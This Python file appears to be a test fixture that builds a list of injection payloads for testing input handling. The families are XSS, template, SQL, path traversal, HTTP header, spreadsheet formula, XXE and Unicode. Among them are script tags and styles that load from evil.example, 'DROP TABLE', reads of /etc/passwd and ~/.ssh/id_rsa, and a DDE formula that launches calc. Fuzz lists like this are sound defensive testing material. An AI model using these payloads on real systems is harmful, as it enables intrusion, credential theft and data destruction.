"""200 texts that would like to be more than text, by what they would like to be."""

_MARK = "alert(1)"
_TAGS = (
    f"<script>{_MARK}</script>",
    f"<img src=x onerror={_MARK}>",
    f"<svg/onload={_MARK}>",
    f"<body onload={_MARK}>",
    f"<iframe src=javascript:{_MARK}></iframe>",
    f"<a href=javascript:{_MARK}>税</a>",
    f"<details open ontoggle={_MARK}>",
    f"<input autofocus onfocus={_MARK}>",
    f"<math><mtext><script>{_MARK}</script></mtext></math>",
    f"<style>@import'//evil.example/{_MARK}'</style>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<form action="//evil.example/"><button>',
    '<object data="//evil.example/">',
    "<mark>",
)
_BREAKS = ("{}", "</script>{}", '">{}', "'>{}", "</title>{}", "--><!-- {}", "</textarea>{}")
_XSS = (
    *(frame.format(tag) for tag in _TAGS for frame in _BREAKS),
    f'" onmouseover="{_MARK}',
    f"' onfocus='{_MARK}' autofocus='",
    f"` onload={_MARK} `",
    f"javascript:{_MARK}",
    f"java\tscript:{_MARK}",
    f"data:text/html,<script>{_MARK}</script>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;&quot;&#39;",
    f"\\u003cscript\\u003e{_MARK}",
    f"＜script＞{_MARK}＜/script＞",
    f"<scr<script>ipt>{_MARK}</script>",
    f"<SCRIPT SRC=//evil.example/a.js>{_MARK}",
    "<<税>>",
    "]]>",
)
_TEMPLATE = (
    *("{{7*7}}", "{{config}}", "{{''.__class__.__mro__}}", "{% raw %}", "{%if 1%}", "{# x #}"),
    *("${7*7}", "#{7*7}", "<%= 7*7 %>", "%(税)s", "{0.__class__}", "{税}", "%s%n%x", "$1\\1"),
)
_SQL = (
    *("' OR '1'='1", "'; DROP TABLE sources;--", '" OR ""="', "1 UNION SELECT path FROM sources"),
    *("%' OR 1=1 --", "\\'; --", "税'--", "税/*", "0x31", "税;VACUUM"),
)
_PATH = (
    *("../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "~/.ssh/id_rsa"),
    *("....//....//etc", "%2e%2e%2f", "..%c0%af", "C:\\税.txt", "//evil.example/税", "税/../税"),
)
_HEADER = (
    *("税\r\nX-Injected: 1", "税\nX-Injected: 1", "税\r\n\r\n<script>", "税%0d%0aX-Injected:1"),
    *("税\rSet-Cookie: a=b", "税\u2028X-Injected: 1", '税"; filename="evil.html', "税; attachment"),
)
_FORMULA = (
    *("=1+1", '=HYPERLINK("//evil.example")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"),
    *("＝1+1", "＋1", "－1+1", "＠SUM(1)", "=cmd|' /C calc'!A0", "\n=1+1", '"=1+1', "=1+1\n税"),
)
_XML = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    *(
        "<!ENTITY x '税'>",
        "<![CDATA[税]]>",
        "&xxe;",
        "<a xmlns='x'/>",
        "<!--税",
        "<?php 1?>",
        "</feed>",
    ),
)
_UNICODE = (
    *("\u202e税\u202c", "\u2066税\u2069", "\u200b税", "\ufeff税", "税\u0301", "\U000e0001税"),
    *(
        "税\x00税",
        "\x1b[31m税",
        "税\x7f",
        "税\x85税",
        "\U0010ffff税",
        "ﷺ" * 9,
        "税\u0000<b>",
        "İ税",
    ),
)
FAMILIES = {
    "xss": _XSS,
    "template": _TEMPLATE,
    "sql": _SQL,
    "path": _PATH,
    "header": _HEADER,
    "formula": _FORMULA,
    "xml": _XML,
    "unicode": _UNICODE,
}
PAYLOADS = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
